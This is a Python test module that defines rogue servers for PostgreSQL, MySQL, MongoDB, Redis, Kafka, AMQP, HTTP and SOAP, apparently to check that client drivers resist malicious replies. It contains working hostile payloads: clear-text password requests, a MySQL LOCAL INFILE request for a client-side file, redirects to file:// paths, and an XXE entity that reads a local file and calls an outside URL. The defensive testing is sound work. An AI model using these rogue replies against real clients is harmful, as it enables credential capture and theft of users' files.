"""Servers that mean harm, each in its own protocol and just far enough. `corpus/rogues.yaml` says which plays what.

A play takes a place to lead to and gives the rogue's answer to each chunk of bytes that arrives. Drivers send one
request at a time, so a chunk is a request.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from tests.attack.sink import answer

Answers = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Lure:
    """Where a rogue wants its client to go, which file of the client's machine it wants, and where it is itself."""

    host: str
    port: int
    file: str
    home: tuple[str, int]

    @property
    def place(self) -> str:
        """As `host:port`."""
        return f"{self.host}:{self.port}"

    @property
    def url(self) -> str:
        """As a URL."""
        return f"http://{self.place}/"


def in_turn(*answers: bytes) -> Answers:
    """One answer after the other, and then the last one again and again."""
    left = list(answers)
    return lambda _data: left.pop(0) if len(left) > 1 else left[0]


def fixed(data: bytes) -> Answers:
    """The same answer to everything."""
    return lambda _data: data


# -- PostgreSQL -----------------------------------------------------------------------------------


def _pg(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("!i", len(body) + 4) + body


_PG_IN = _pg(b"R", bytes(4)) + _pg(b"S", b"server_version\0" + b"17.0\0") + _pg(b"K", bytes(8)) + _pg(b"Z", b"I")


def pg_password(way: int) -> Answers:
    """Asks for the password: in clear text (3), or as MD5 (5), which is as good to whoever hears it."""
    return lambda data: (
        b"N" if data[4:8] == struct.pack("!i", 80877103) else _pg(b"R", struct.pack("!i", way) + b"salt")
    )


def pg_copy(_lure: Lure) -> Answers:
    """Lets anybody in, and answers a query with a request for COPY data (CopyInResponse)."""
    return in_turn(_PG_IN, _pg(b"G", b"\0\0\0"))


# -- MySQL ----------------------------------------------------------------------------------------

_MYSQL_OK = b"\0\0\0\2\0\0\0"


def _mysql(body: bytes, number: int) -> bytes:
    return len(body).to_bytes(3, "little") + bytes([number]) + body


def mysql_asks(body: bytes) -> Answers:
    """After the log-in packet, asks for something."""
    return fixed(_mysql(body, 2))


def mysql_file(lure: Lure) -> Answers:
    """Lets anybody in, and answers the first command with a request for a local file."""
    return in_turn(_mysql(_MYSQL_OK, 2), _mysql(b"\xfb" + lure.file.encode(), 1))


def mysql_redirect(lure: Lure) -> Answers:
    """MariaDB's server-side redirection: the session variable `redirect_url` in the OK of the log-in."""
    said = b"".join(bytes([len(text)]) + text for text in (b"redirect_url", f"mysql://{lure.place}".encode()))
    changed = bytes([0, len(said)]) + said
    moved = b"\0\0\0" + struct.pack("<H", 0x4002) + b"\0\0" + b"\0" + bytes([len(changed)]) + changed
    return in_turn(_mysql(moved, 2), _mysql(_MYSQL_OK, 1))


# -- MongoDB --------------------------------------------------------------------------------------


def _mongo(document: dict[str, Any]) -> Answers:
    import bson

    def say(data: bytes) -> bytes:
        request = struct.unpack_from("<i", data, 4)[0]
        body = struct.pack("<I", 0) + b"\0" + bson.encode(document)
        return struct.pack("<iiii", 16 + len(body), 0, request, 2013) + body

    return say


def _hello(**more: Any) -> dict[str, Any]:
    return {"ok": 1.0, "isWritablePrimary": True, "minWireVersion": 9, "maxWireVersion": 25, **more}


def mongo_hosts(lure: Lure) -> Answers:
    """A member of a replica set whose hosts are all elsewhere."""
    there = [lure.place]
    return _mongo(_hello(setName="rs0", hosts=there, passives=there, arbiters=there, primary=lure.place, me=lure.place))


def mongo_shards(lure: Lure) -> Answers:
    """A load balancer that names another service, and a mongos that names its shards."""
    return _mongo(_hello(msg="isdbgrid", serviceId=b"123456789012", hosts=[lure.place], me=lure.place))


def mongo_primary(lure: Lure) -> Answers:
    """One that is no primary and says who is."""
    first = _mongo(_hello(setName="rs0", hosts=[lure.place], primary=lure.place))
    moved = {"ok": 0.0, "errmsg": f"not primary, ask {lure.place}", "code": 10107, "primary": lure.place}
    answers: Iterator[Answers] = iter((first,))
    return lambda data: next(answers, _mongo(moved))(data)


def mongo_plain(_lure: Lure) -> Answers:
    """One that knows no log-in but the password itself."""
    return _mongo(_hello(saslSupportedMechs=["PLAIN"]))


# -- Redis ----------------------------------------------------------------------------------------


def redis_error(word: str) -> Callable[[Lure], Answers]:
    """Answers every command, or all of a log-in, with an error that names another place."""
    return lambda lure: lambda data: f"-{word} {lure.place}\r\n".encode() * max(1, data.count(b"\r\n*") + 1)


def redis_push(lure: Lure) -> Answers:
    """Announces a move in the midst of answers, as managed services do (RESP3 push)."""
    text = f">4\r\n+MOVING\r\n:1\r\n:0\r\n${len(lure.place)}\r\n{lure.place}\r\n".encode()
    return lambda data: text + b"+OK\r\n" * (data.count(b"\r\n*") + 1)


# -- Kafka ----------------------------------------------------------------------------------------

API_VERSIONS, METADATA, OFFSETS, COMMITTED, COORDINATOR, HANDSHAKE, AUTHENTICATE = 18, 3, 2, 9, 10, 17, 36


def _text(value: str) -> bytes:
    return struct.pack(">h", len(value)) + value.encode()


def _kafka(tables: dict[int, tuple[int, bytes]]) -> Answers:
    """A broker that has so many calls: their numbers, newest version, and the one answer to each."""

    def say(data: bytes) -> bytes:
        api, _, number = struct.unpack_from(">hhi", data, 4)
        body = tables[api][1] if api in tables else b"\0\0"
        if api == API_VERSIONS:
            body = struct.pack(">hi", 0, len(tables)) + b"".join(
                struct.pack(">hhh", call, 0, newest) for call, (newest, _) in tables.items()
            )
        return struct.pack(">ii", len(body) + 4, number) + body

    return say


def _metadata(host: str, port: int, topic: str = "things") -> bytes:
    """Version 1: one broker, which leads the one partition of the one topic."""
    broker = struct.pack(">ii", 1, 7) + _text(host) + struct.pack(">ih", port, -1) + struct.pack(">i", 7)
    partition = struct.pack(">ihiiiiii", 1, 0, 0, 7, 1, 7, 1, 7)
    return broker + struct.pack(">ih", 1, 0) + _text(topic) + b"\0" + partition


_NO_OFFSETS = struct.pack(">ii", 0, 1) + _text("things") + struct.pack(">iihqq", 1, 0, 0, -1, 5)
"""ListOffsets, version 2: the partition begins and ends at 5."""


def kafka_brokers(lure: Lure) -> Answers:
    """Metadata that name a broker elsewhere, leader of everything there is."""
    return _kafka({API_VERSIONS: (0, b""), METADATA: (1, _metadata(lure.host, lure.port)), OFFSETS: (2, _NO_OFFSETS)})


def kafka_coordinator(lure: Lure) -> Answers:
    """Honest metadata, and a coordinator of every group that is elsewhere."""
    place = struct.pack(">hi", 0, 8) + _text(lure.host) + struct.pack(">i", lure.port)
    return _kafka({
        API_VERSIONS: (0, b""), METADATA: (1, _metadata(*lure.home)), COORDINATOR: (0, place), OFFSETS: (2, _NO_OFFSETS),
        COMMITTED: (1, b""),
    })  # fmt: skip


def kafka_plain(_lure: Lure) -> Answers:
    """One that knows no log-in but the password itself, and thanks for whatever comes."""
    mechanisms = struct.pack(">hi", 0, 1) + _text("PLAIN")
    done = struct.pack(">hhi", 0, -1, 0)
    return _kafka({API_VERSIONS: (0, b""), HANDSHAKE: (1, mechanisms), AUTHENTICATE: (0, done)})


# -- AMQP -----------------------------------------------------------------------------------------


def amqp_redirect(lure: Lure) -> Answers:
    """`connection.redirect` of AMQP 0-9 (class 10, method 42), which 0-9-1 has no more."""
    from pamqp import commands, frame

    start = frame.marshal(commands.Connection.Start(mechanisms="PLAIN", locales="en_US"), 0)
    body = struct.pack(">HH", 10, 42) + bytes([len(lure.place)]) + lure.place.encode() + b"\0"
    moved = b"\1" + struct.pack(">HI", 0, len(body)) + body + b"\xce"
    return in_turn(bytes(start), moved)


# -- HTTP -----------------------------------------------------------------------------------------


def http(status: int, body: str = "{}", **headers: str) -> Callable[[Lure], Answers]:
    """One answer to every request; `$URL`, `$PLACE` and `$FILE` in it are the lure's."""

    def play(lure: Lure) -> Answers:
        def filled(text: str) -> str:
            return text.replace("$URL", lure.url).replace("$PLACE", lure.place).replace("$FILE", lure.file)

        named = {name: filled(value) for name, value in headers.items()}
        return fixed(answer(filled(body).encode(), status, **named))

    return play


def soap_address(lure: Lure) -> Answers:
    """A WSDL whose service is elsewhere."""
    from tests.providers.soap_kit import wsdl

    return fixed(answer(wsdl(address=lure.url).replace('"Do"', '"Add"').encode()))


def soap_import(lure: Lure) -> Answers:
    """A WSDL that imports a schema from elsewhere, and one that is a file of this machine."""
    from tests.providers.soap_kit import wsdl

    more = "".join(
        f'<x:schema><x:import namespace="urn:{at}" schemaLocation="{place}"/></x:schema>'
        for at, place in enumerate((lure.url, f"file://{lure.file}"))
    )
    return fixed(answer(wsdl(more=more).encode()))


XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file://$FILE"><!ENTITY u SYSTEM "$URL">]><a>&f;&u;</a>'

PLAYS: dict[str, Callable[[Lure], Answers]] = {
    "clear text password": lambda _: pg_password(3),
    "md5 password": lambda _: pg_password(5),
    "copy data": pg_copy,
    "mysql_clear_password": lambda _: mysql_asks(b"\xfemysql_clear_password\0"),
    "dialog": lambda _: mysql_asks(b"\xfedialog\0\2Password: "),
    "local infile": mysql_file,
    "redirect_url": mysql_redirect,
    "hosts of a replica set": mongo_hosts,
    "another service": mongo_shards,
    "another primary": mongo_primary,
    "only PLAIN": mongo_plain,
    "MOVED": redis_error("MOVED 1"),
    "ASK": redis_error("ASK 1"),
    "REDIRECT": redis_error("REDIRECT"),
    "MOVING": redis_push,
    "other brokers": kafka_brokers,
    "another coordinator": kafka_coordinator,
    "only SASL PLAIN": kafka_plain,
    "connection.redirect": amqp_redirect,
    "301": http(301, location="$URL"),
    "302 to a file": http(302, location="file://$FILE"),
    "307": http(307, location="$URL"),
    "another endpoint": http(400, "<Error><Code>PermanentRedirect</Code><Endpoint>$PLACE</Endpoint></Error>"),
    "another region": http(400, "{}", x_amz_bucket_region="$PLACE"),
    "next page elsewhere": http(200, '{"next": "$URL", "nextPageToken": "$URL"}', link='<$URL>; rel="next"'),
    "another queue": http(200, '{"QueueUrl": "$URL1/things", "QueueUrls": ["$URL1/things"]}'),
    "Basic, please": http(401, www_authenticate='Basic realm="$URL"'),
    "Negotiate, please": http(401, www_authenticate="Negotiate, NTLM"),
    "an entity": http(200, XXE, content_type="application/xml"),
    "address of a service": soap_address,
    "imports": soap_import,
}
